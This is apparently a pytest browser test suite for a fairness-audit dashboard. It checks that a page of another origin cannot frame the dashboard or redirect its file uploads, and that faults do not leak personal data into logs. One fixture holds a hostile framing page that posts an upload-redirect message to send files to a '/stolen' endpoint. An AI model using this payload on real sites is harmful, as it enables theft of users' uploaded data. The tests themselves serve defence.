"""What a page elsewhere can do to the dashboard, and what a person sees when something breaks."""

import http.server
import re
import threading

import pytest

from tests.browser.test_journeys import uploader
from tests.conftest import random_table

# What was done once: frame the dashboard, say that one is its host, and have the next file sent elsewhere.
FRAMING = """<!doctype html><title>elsewhere</title>
<iframe id="frame" src="{address}/your-data" width="1200" height="800"></iframe>
<script>
window.told = [];
addEventListener("message", event => told.push(event.data));
const frame = document.getElementById("frame");
setInterval(() => frame.contentWindow.postMessage({{stCommVersion: 1, type: "SET_FILE_UPLOAD_CLIENT_CONFIG",
    prefix: "{here}/stolen", headers: {{}}}}, "*"), 100);
</script>"""


@pytest.fixture
def elsewhere(server):
    """A page of another origin, by another name of this machine; gives its address and what was sent to it."""
    taken: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            content = FRAMING.format(address=server, here=f"http://localhost:{self.server.server_port}").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(content)

        def do_PUT(self):
            taken.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_OPTIONS = do_PUT

        def log_message(self, *arguments):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as host:
        threading.Thread(target=host.serve_forever, daemon=True).start()
        yield f"http://localhost:{host.server_port}", taken
        host.shutdown()


def test_a_page_elsewhere_cannot_frame_post_to_or_receive_anything(browser, elsewhere, server):
    address, taken = elsewhere
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(address)
    page.wait_for_timeout(3_000)
    assert any("frame-ancestors" in text or "X-Frame-Options" in text for text in refused), refused
    frame = next(f for f in page.frames if f != page.main_frame)
    assert frame.locator("input[type=file]").count() == 0 and not frame.url.startswith(server)
    assert page.evaluate("told") == [] and taken == []
    opened = page.evaluate(f"fetch('{server}/_stcore/host-config').then(a => a.text(), () => 'refused')")
    assert opened == "refused"
    with page.expect_popup() as popup:  # nor as a window whose opener it is
        page.evaluate(f"window.other = window.open('{server}/your-data'); 1")
    popup.value.get_by_text("Who is in the data?").wait_for()
    assert page.evaluate("other.closed || other.window !== window && other.length === 0")
    page.close()


def test_told_messages_of_a_host_a_file_still_goes_to_the_server(browser, server):
    """The message itself, from a page that may send it: the dashboard has no host, and its file stays here."""
    page = browser.new_page()
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url) if request.method in ("PUT", "POST") else None)
    page.goto(f"{server}/your-data")
    page.get_by_text("1 · The table").wait_for()
    message = {
        "stCommVersion": 1,
        "type": "SET_FILE_UPLOAD_CLIENT_CONFIG",
        "prefix": "http://localhost:9/x",
        "headers": {},
    }
    page.evaluate("message => window.postMessage(message, '*')", message)
    table = random_table(1).rename(columns={"y": "label", "group": "race"}).to_csv(index=False).encode()
    files = [{"name": "mine.csv", "mimeType": "text/csv", "buffer": table}]
    uploader(page).set_input_files(files)
    page.get_by_text("mine.csv").first.wait_for()
    page.get_by_text("400 rows, 5 columns").first.wait_for()
    assert sent and all(url.startswith(f"{server}/_stcore/upload_file/") for url in sent), sent
    page.close()


# Starts the dashboard with a room that fails, and says something of a person when it does.
BROKEN = """
import sys
import recidiv_core.ui.state as state

def broken(*arguments, **more):
    raise ValueError("Aurelio Quispe 1971")

state.audit_thresholds = broken
from recidiv_core.__main__ import main
sys.exit(main(sys.argv[1:]))
"""


def test_a_fault_is_one_box_and_the_session_goes_on(browser, started, tmp_path):
    address, log = started(tmp_path, "--records", "simulated:200", launch=("-c", BROKEN))
    page = browser.new_page()
    page.goto(address)
    page.get_by_role("link", name="Thresholds").first.click()
    box = page.locator("p", has_text="This part could not be worked out.").first
    box.wait_for()
    number = re.search(r"fault ([0-9a-f]{8})", box.inner_text())[1]
    assert re.search(rf"fault {number}: ValueError at <string>:\d+ < recidiv_core/ui/state.py:\d+", log.read_text())
    page.get_by_role("link", name="Groups").first.click()  # all other pages are at work
    page.get_by_role("heading", name="Does the model treat the groups alike?").wait_for()
    page.get_by_role("link", name="Thresholds").first.click()
    page.get_by_text("Back to the data").first.wait_for()
    page.get_by_text("Back to the data").first.click()
    page.get_by_role("heading", name="Who is in the data?").wait_for()
    table = random_table(1).rename(columns={"y": "label", "group": "race"}).to_csv(index=False).encode()
    files = [{"name": "next.csv", "mimeType": "text/csv", "buffer": table}]
    uploader(page).set_input_files(files)
    page.get_by_text("400 rows, 5 columns").first.wait_for()
    assert page.get_by_text("This part could not be worked out.").count() == 0
    page.close()
    assert "Aurelio" not in log.read_text() and "Traceback" not in log.read_text()
